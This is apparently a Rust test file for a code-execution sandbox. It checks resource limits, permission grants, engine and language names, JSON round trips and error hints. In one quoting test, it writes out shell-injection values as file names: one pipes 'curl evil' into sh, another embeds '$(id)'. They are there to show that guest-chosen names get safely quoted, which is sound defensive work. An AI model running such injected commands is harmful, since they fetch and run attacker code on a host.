//! Promises of the contract about its tables and its JSON.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::*;

const MIB: u64 = 1 << 20;
const MINUTE: std::time::Duration = std::time::Duration::from_secs(60);

/// A caller cannot have more than the machine has, whatever the usual maxima are.
#[test]
fn s10_the_usual_maxima_are_within_the_machine() {
    let small = Limits::MAXIMUM.on_a_machine_with(1024 * MIB);
    assert_eq!((small.memory, small.disk), (512 * MIB, 512 * MIB));
    assert_eq!((small.context_bytes, small.result_bytes), (64 * MIB, 16 * MIB));
    assert_eq!(small.timeout, Limits::MAXIMUM.timeout);
    assert_eq!(Limits::MAXIMUM.on_a_machine_with(1 << 40), Limits::MAXIMUM);
    // The limits of a run that asks for nothing fit, too.
    let tiny = Limits::MAXIMUM.on_a_machine_with(256 * MIB);
    let excess = Limits::DEFAULT.excess(&tiny).map(|excess| excess.limit);
    assert_eq!(excess, Some(Limit::Memory));
    assert_eq!(Limits::DEFAULT.within(&tiny).excess(&tiny), None);
}

/// A row of the table is read and written by every name it has.
#[test]
fn a6_every_limit_is_set_by_its_row() {
    for limit in Limit::ALL {
        assert_eq!(Limit::from_key(limit.key()), Some(*limit));
        let mut limits = Limits::DEFAULT;
        let amount = limit.get(&Limits::MAXIMUM);
        limit.set(&mut limits, amount);
        assert_eq!(limit.get(&limits), amount, "{limit:?}");
        let asked = json!({ limit.json_key(): limit.to_json(amount) });
        let asked: LimitsRequest = serde_json::from_value(asked).expect("a limit of the table");
        assert_eq!(limit.get(&Limits::DEFAULT.with(&asked)), amount, "{limit:?}");
        let stored = serde_json::to_string(&limits).expect("JSON");
        assert_eq!(serde_json::from_str::<Limits>(&stored).expect("the same"), limits);
    }
    let flags: Vec<_> = Limit::ALL.iter().map(|limit| limit.flag()).collect();
    assert_eq!(flags.iter().collect::<BTreeSet<_>>().len(), flags.len(), "{flags:?}");
}

/// The page about limits has every row of the table: flag, key, name in requests, and slack.
#[test]
fn a6_the_page_about_limits_is_the_table() {
    let page = include_str!("../../../docs/limits.md");
    for limit in Limit::ALL {
        let key = format!("| `{}` |", limit.key());
        let row = page.lines().find(|line| line.starts_with('|') && line.contains(&key));
        let row = row.expect("docs/limits.md has a row for every limit");
        assert!(row.contains(&format!("| `--{}` |", limit.flag())), "{row}");
        assert!(row.ends_with(&format!("| `{}` |", limit.json_key())), "{row}");
        if limit.slack() != "none" {
            assert!(page.contains(&format!("| {} |", limit.slack())), "{key}: {}", limit.slack());
        }
    }
}

/// The page about grants has every row of the table: key, flag, and who may ask for it.
#[test]
fn a5_the_page_about_grants_is_the_table() {
    let page = include_str!("../../../docs/grants.md");
    for grant in Grant::ALL {
        let key = format!("| `{}` |", grant.key());
        let row = page.lines().find(|line| line.starts_with(&key));
        let row = row.expect("docs/grants.md has a row for every grant");
        let cells: Vec<&str> = row.split('|').map(str::trim).collect();
        let flag = grant.flag().map_or("–".to_owned(), |flag| format!("`--{}`", flag.name));
        let asked = |by: &[Grant]| if by.contains(grant) { "yes" } else { "–" };
        let wanted = [flag.as_str(), asked(Grant::OF_CLIENTS), asked(Grant::OF_TASKS)];
        assert_eq!(cells.get(2..5), Some(&wanted[..]), "{row}");
    }
}

/// JSON that one of these takes: a grant is asked for by some of it.
fn example(mut takes: impl FnMut(&Value) -> bool) -> Value {
    let all = [json!(["a"]), json!({"a": "b"}), json!("a"), json!(true)];
    all.into_iter().find(|json| takes(json)).expect("a grant takes some JSON")
}

fn names(asked: &[(Grant, GrantAsk<'_>)]) -> Vec<Grant> {
    asked.iter().map(|(grant, _)| *grant).collect()
}

/// A row of the table of grants is asked for, given and written by its key.
#[test]
fn a5_every_grant_is_asked_for_and_given_by_its_row() {
    for grant in Grant::ALL.iter().copied() {
        let mut request = GrantsRequest::default();
        if Grant::OF_CLIENTS.contains(&grant) {
            let asked = example(|json| request.set(grant, json).is_ok());
            assert_eq!(names(&request.asked()), [grant]);
            let same = serde_json::from_value::<GrantsRequest>(json!({ grant.key(): asked }));
            assert_eq!(same.expect("a grant"), request);
        }
        assert!(request.set(grant, &json!(1)).is_err(), "{grant:?}");
        let mut task = TaskGrants::default();
        if Grant::OF_TASKS.contains(&grant) {
            let asked = example(|json| task.set(grant, json).is_ok());
            assert_eq!(names(&task.asked()), [grant]);
            assert_eq!(json!(task)[grant.key()], asked);
            assert_eq!(serde_json::from_value::<TaskGrants>(json!(task)).expect("the same"), task);
        }
        assert!(task.set(grant, &json!(1)).is_err(), "{grant:?}");
        let mut grants = Grants::default();
        assert_eq!(grants.given(), []);
        grants.give(grant, grant.kind().value_of(vec!["a".to_owned()]));
        // Tools are asked for, and a run is not given them.
        let is_given = grant.kind() != GrantKind::Tools;
        assert_eq!(grants.given() == [grant], is_given, "{grant:?}");
    }
}

#[test]
fn a5_grants_of_two_places_add_up() {
    let with = |json: Value| serde_json::from_value::<TaskGrants>(json).expect("grants");
    let own = with(json!({"read": ["/a"], "modules": [], "write": ["/c"]}));
    let more = with(json!({"read": ["/b"], "modules": ["os"], "write": true, "commands": ["rm"]}));
    let both = own.and(&more);
    let wanted = json!({"read": ["/a", "/b"], "modules": [], "write": true, "commands": ["rm"]});
    assert_eq!(both, with(wanted));
    assert_eq!(TaskGrants::default().and(&more), more);
}

#[test]
fn names_are_the_same_in_both_spellings() {
    for name in ["timeout_ms", "timeoutMs", "timeoutMS"] {
        assert!(is_spelled_alike(name, "timeout_ms"), "{name}");
    }
    assert!(!is_spelled_alike("timeout", "timeout_ms"));
    assert_eq!(
        (camel_case("tool_timeout_ms"), camel_case("heapLimitMB")),
        ("toolTimeoutMs".into(), "heapLimitMB".into())
    );
    // No name means two limits, or a limit and a grant.
    let limits = Limit::ALL
        .iter()
        .flat_map(|limit| limit.names().into_iter().map(|name| (name, limit.key())));
    let grants = Grant::ALL
        .iter()
        .flat_map(|grant| grant.names().into_iter().map(|name| (name, grant.key())));
    let all: Vec<_> = limits.chain(grants).collect();
    for (name, key) in &all {
        let others = all.iter().filter(|(other, of)| of != key && is_spelled_alike(name, other));
        assert_eq!(others.count(), 0, "{name}");
    }
}

/// Times are compared in whole milliseconds, as they are shown.
#[test]
fn a6_a_time_below_a_millisecond_is_none() {
    let excess = |nanoseconds: u64| {
        let timeout = std::time::Duration::from_nanos(nanoseconds);
        Limits { timeout, ..Limits::DEFAULT }.excess(&Limits::MAXIMUM).map(|excess| excess.limit)
    };
    assert_eq!(excess(400_000), Some(Limit::Timeout));
    assert_eq!(excess(1_000_000), None);
    assert_eq!(excess(3_600_000_400_000), None);
    assert_eq!(excess(3_600_001_000_000), Some(Limit::Timeout));
}

#[test]
fn a6_cpu_time_follows_wall_time_unless_it_is_stated() {
    let with = |asked: Value| {
        let asked = serde_json::from_value(asked).expect("limits");
        let limits = Limits::DEFAULT.with(&asked);
        (limits.timeout.as_millis(), limits.cpu.as_millis())
    };
    assert_eq!(with(json!({"timeout_ms": 500})), (500, 500));
    assert_eq!(with(json!({"timeout_ms": 500, "cpu_ms": 100})), (500, 100));
    assert_eq!(with(json!({"cpu_ms": 100.0})), (30_000, 100));
    assert_eq!(with(json!({"cpu_ms": null})), (30_000, 30_000));
}

#[test]
fn b1_a_run_in_a_session_keeps_to_what_is_the_sessions() {
    let session = Limits { memory: 64 * MIB, inodes: 7, ..Limits::DEFAULT };
    let run = Limits { tool_calls: 3, ..Limits::MAXIMUM }.in_session(&session);
    assert_eq!((run.memory, run.inodes, run.disk), (64 * MIB, 7, session.disk));
    assert_eq!((run.tool_calls, run.timeout), (3, Limits::MAXIMUM.timeout));
    // A run that cannot ask gets all that its session has, also where that is more than usual.
    let large = Limits { memory: 1024 * MIB, processes: 64, timeout: MINUTE, ..Limits::DEFAULT };
    let run = Limits::DEFAULT.inheriting(&large);
    assert_eq!((run.memory, run.processes, run.timeout), (1024 * MIB, 64, Limits::DEFAULT.timeout));
    let stated = LimitsRequest { timeout_ms: Some(1), disk_mb: Some(1), ..Default::default() };
    assert_eq!(stated.first_of_session(), Some(Limit::Disk));
}

/// Every language has an engine, and every engine is found by its name.
#[test]
fn a12_engines_and_languages_fit_together() {
    for language in Language::ALL {
        assert!(EngineName::default_for(language).runs(language), "{language}");
        assert_eq!(Language::from_name(&language.as_str().to_uppercase()), Some(language));
        assert_eq!(Language::from_name(language.extension()), Some(language));
        assert_eq!(json!(language), language.as_str());
    }
    for engine in EngineName::ALL {
        assert_eq!(EngineName::from_name(engine.as_str()), Some(*engine));
        assert_eq!(json!(engine), engine.as_str());
        assert_eq!(serde_json::from_value::<EngineName>(json!(engine)).ok(), Some(*engine));
    }
    let unknown = serde_json::from_value::<EngineName>(json!("perl")).expect_err("no engine");
    let text = format!("there is no engine \"perl\"; engines: {}", EngineName::names());
    assert!(text.contains("quickjs, cpython, bash"), "{text}");
    assert_eq!(unknown.to_string(), text);
    assert_eq!("perl".parse::<EngineName>().expect_err("no engine").to_string(), text);
    assert_eq!("bash".parse(), Ok(EngineName::Bash));
}

/// An engine that is named for another language is refused with the engines that run it.
#[test]
fn a12_a_mismatch_says_which_engines_run_the_language() {
    assert_eq!(EngineName::QuickJs.check(Language::JavaScript), Ok(()));
    let mismatch = EngineName::QuickJs.check(Language::Python).expect_err("another language");
    assert_eq!(mismatch.to_string(), "the engine quickjs does not run python");
    assert_eq!(mismatch.hint(), "engines that run python: cpython");
}

/// A request that names an engine and no language means the engine's own language.
#[test]
fn a12_code_has_the_language_of_its_engine() {
    let language = |request: Value| {
        serde_json::from_value::<ExecuteRequest>(request).map(|request| request.language()).ok()
    };
    assert_eq!(language(json!({"code": ""})), Some(Language::TypeScript));
    assert_eq!(language(json!({"code": "", "engine": "cpython"})), Some(Language::Python));
    let both = json!({"code": "", "engine": "quickjs", "language": "javascript"});
    assert_eq!(language(both), Some(Language::JavaScript));
}

#[test]
fn a7_codes_and_statuses_are_written_as_they_are_named() {
    for code in ErrorCode::ALL {
        assert_eq!(json!(code), code.as_str());
    }
    for status in RunStatus::ALL {
        assert_eq!(json!(status), status.as_str());
        assert_eq!(RunStatus::from_name(status.as_str()), Some(*status));
        assert!(!(status.is_final() && status.is_paused()), "{status}");
    }
}

/// Records and events of earlier versions have these words in them.
#[test]
fn d9_statuses_of_workflows_and_tasks_keep_their_words() {
    let workflow: Vec<&str> = WorkflowStatus::ALL.iter().map(|status| status.as_str()).collect();
    let words = "created queued needs_attention new running paused stopping rolling_back completed \
                 failed aborted";
    assert_eq!(workflow.join(" "), words);
    let task: Vec<&str> = TaskStatus::ALL.iter().map(|status| status.as_str()).collect();
    let words = "waiting ready running retrying deciding sleeping in_doubt completed failed continued \
                 skipped cancelled";
    assert_eq!(task.join(" "), words);
    assert_eq!(json!(TaskStatus::ALL), json!(task));
    assert_eq!(json!(WorkflowStatus::ALL), json!(workflow));
    assert_eq!(WorkflowStatus::from_name("ended"), None);
}

/// A record names a question by a word; a word of some other version must not be an error.
#[test]
fn d8_questions_about_calls_keep_their_words() {
    let repeat = |times_sent| ApprovalQuestion::MayRepeat { times_sent };
    let questions = [ApprovalQuestion::MayCall, repeat(1), repeat(2), repeat(17)];
    for (question, word) in
        questions.into_iter().zip(["ask", "in_doubt", "in_doubt_2", "in_doubt_17"])
    {
        assert_eq!(question.to_string(), word);
        assert_eq!(ApprovalQuestion::from_record(word), question);
    }
    assert_eq!(ApprovalQuestion::from_record("in_doubt_x").kind(), ApprovalKind::InDoubt);
    assert_eq!(ApprovalQuestion::from_record("later").kind(), ApprovalKind::Call);
}

/// A result reads what it writes, with the value as it was.
#[test]
fn a9_a_result_is_the_same_after_a_round_trip() {
    let error = RunError {
        stack: Some("at main.ts:2:1".to_owned()),
        line: Some(2),
        column: Some(1),
        ..RunError::new(ErrorCode::RuntimeThrown, "oh").with_hint("do")
    };
    let mut result = RunResult::not_run("run_1", RunStatus::Failed, error);
    result.result = serde_json::from_str(r#"{"b":1,"a":12345678901234567890}"#).expect("JSON");
    result.changes.push(Change {
        path: "a".to_owned(),
        kind: ChangeKind::Deleted,
        entry: EntryKind::Link,
        bytes: 0,
        committed: false,
        note: None,
    });
    let text = serde_json::to_string(&result).expect("JSON");
    let again: RunResult = serde_json::from_str(&text).expect("the same");
    assert_eq!(serde_json::to_string(&again).expect("JSON"), text);
    assert!(text.contains(r#""result":{"b":1,"a":12345678901234567890}"#), "{text}");
}

/// The command line writes the request that the server reads.
#[test]
fn a_request_for_a_session_has_what_is_asked_for_and_is_read_as_it_is_written() {
    let nothing = SessionRequest::default();
    assert_eq!(serde_json::to_string(&nothing).expect("JSON"), "{}");
    let mut request = SessionRequest { language: Some(Language::Bash), ..nothing };
    request.limits.set(Limit::Memory, 64);
    request.grants.set(Grant::Commands, &json!(["git"])).expect("names");
    request.grants.set(Grant::Env, &json!({"A": "b"})).expect("variables");
    let text = serde_json::to_string(&request).expect("JSON");
    assert!(text.contains(r#""memory_mb":64"#) && text.contains(r#""commands":["git"]"#), "{text}");
    assert_eq!(serde_json::from_str::<SessionRequest>(&text).expect("the same"), request);
}

#[test]
fn hexadecimal_is_read_as_it_is_written() {
    assert_eq!(hex::encode(&[0, 15, 255]), "000fff");
    assert_eq!(hex::decode("000fff"), Some(vec![0, 15, 255]));
    for wrong in ["0", "0g", "é0"] {
        assert_eq!(hex::decode(wrong), None, "{wrong}");
    }
}

/// Guest code chooses the name, and a person may paste the command line.
#[test]
fn a_missing_grant_is_one_word_of_a_shell() {
    let read = |name: &str| {
        let missing = MissingGrant { kind: Grant::Read, name: name.into() };
        missing.phrase(Audience::CommandLine)
    };
    assert_eq!(read("/srv/data.csv"), "--read /srv/data.csv", "control");
    assert_eq!(read("/srv/x; curl evil | sh #"), "--read '/srv/x; curl evil | sh #'");
    assert_eq!(read("/srv/x\n$(id)"), "--read '/srv/x\n$(id)'");
    assert_eq!(read("/it's"), r"--read '/it'\''s'");
}

/// A missing grant is data; the sentence about it is in the words of its reader.
#[test]
fn a_missing_grant_is_told_in_the_words_of_its_reader() {
    let missing = MissingGrant { kind: Grant::Modules, name: "pickle".into() };
    let mut error = RunError::new(ErrorCode::PermissionModule, "x").with_hint("Use json.");
    error.missing = Some(Box::new(missing));
    let error = error.with_advice();
    let hint = "Use json. Ask for --module pickle if there is no other way.";
    assert_eq!(error.hint.as_deref(), Some(hint));
    assert_eq!(error.clone().with_advice().hint.as_deref(), Some(hint));
    for (audience, words) in [
        (Audience::CommandLine, "--module pickle"),
        (Audience::Client, "`modules: [\"pickle\"]` in `sandbox_config` (HTTP: in `grants`)"),
        (Audience::WorkflowFile, "`allowed_modules: [pickle]`"),
    ] {
        let told = error.hint_for(audience);
        let expected = format!("Use json. Ask for {words} if there is no other way.");
        assert_eq!(told, Some(expected));
    }
    let told = error.hint_for(Audience::Operator);
    let expected = "Use json. Only the operator can allow it, with `belljar serve --module pickle`, or \
                    `modules = [\"pickle\"]` under [grants] in the user's belljar.toml.";
    assert_eq!(told.as_deref(), Some(expected));
    let missing = MissingGrant { kind: Grant::Net, name: "a.example".into() };
    for (audience, words) in [
        (Audience::CommandLine, "--net a.example"),
        (Audience::Client, "`network: [\"a.example\"]` (HTTP: `net` in `grants`)"),
        (
            Audience::WorkflowFile,
            "`allow_network: [\"a.example\"]` (in a DAG file: `net` in `grants`)",
        ),
    ] {
        assert_eq!(missing.phrase(audience), words);
    }
    assert!(missing.phrase(Audience::Operator).contains("`allow = [\"a.example\"]` under [net]"));
    let full = RunError::new(ErrorCode::LimitMemory, "x").with_advice();
    assert_eq!(full.hint.as_deref(), Some("Or ask for more with --memory."));
    let told = full.hint_for(Audience::Client);
    assert_eq!(
        told.as_deref(),
        Some("Or ask for more with `memory_mb` in `sandbox_config` (HTTP: in `limits`).")
    );
    assert_eq!(RunError::new(ErrorCode::RuntimeThrown, "x").with_advice().hint, None);
}

/// A tool's time may be the server's own. Only the limit of the request is reworded for its reader.
#[test]
fn the_hint_of_a_tool_timeout_is_in_the_words_of_its_reader() {
    let timeout = |hint: &str| RunError::new(ErrorCode::ToolTimeout, "x").with_hint(hint);
    let of_request = timeout("Make smaller calls. Or ask for more with --tool-timeout.");
    assert_eq!(
        of_request.hint_for(Audience::Client).as_deref(),
        Some(
            "Make smaller calls. Or ask for more with `tool_timeout_ms` in `sandbox_config` (HTTP: in \
             `limits`)."
        )
    );
    let of_server = "raise `timeout` of the server";
    for audience in [Audience::CommandLine, Audience::Client] {
        assert_eq!(timeout(of_server).hint_for(audience).as_deref(), Some(of_server));
    }
    assert_eq!(
        timeout(of_server).with_advice().hint.as_deref(),
        Some(of_server),
        "no second advice"
    );
}

/// Every surface understands the same names, and the first line of the code may name one too.
#[test]
fn languages_have_short_names() {
    for (json, language) in [
        ("\"py\"", Language::Python),
        ("\"Python\"", Language::Python),
        ("\"sh\"", Language::Bash),
        ("\"ts\"", Language::TypeScript),
        ("\"javascript\"", Language::JavaScript),
        ("\"python3\"", Language::Python),
        ("\"Shell\"", Language::Bash),
    ] {
        assert_eq!(serde_json::from_str::<Language>(json).ok(), Some(language), "{json}");
    }
    let odd = serde_json::from_str::<Language>("\"ruby\"").unwrap_err().to_string();
    assert!(odd.starts_with("unknown variant `ruby`, expected one of `typescript`"), "{odd}");
    assert_eq!(serde_json::to_string(&Language::Python).ok().as_deref(), Some("\"python\""));
    for (code, language) in [
        ("#!/usr/bin/env python3\n1", Some(Language::Python)),
        ("#!/usr/bin/env -S bash -e\n:", Some(Language::Bash)),
        ("#!/bin/sh", Some(Language::Bash)),
        ("#!/usr/bin/python3.11 -u\n", Some(Language::Python)),
        ("#!/usr/bin/env node\n", Some(Language::JavaScript)),
        ("#!/usr/bin/perl\n", None),
        ("#!", None),
        ("# python", None),
    ] {
        assert_eq!(Language::of_shebang(code), language, "{code}");
    }
}

#[test]
fn a_long_line_keeps_both_ends() {
    assert_eq!(head_and_tail("abc", 3), "abc");
    let cut = head_and_tail(&format!("{}é{}", "a".repeat(100), "b".repeat(100)), 40);
    assert!(
        cut.starts_with("aaa") && cut.ends_with("bbb") && cut.contains("bytes left out"),
        "{cut}"
    );
}
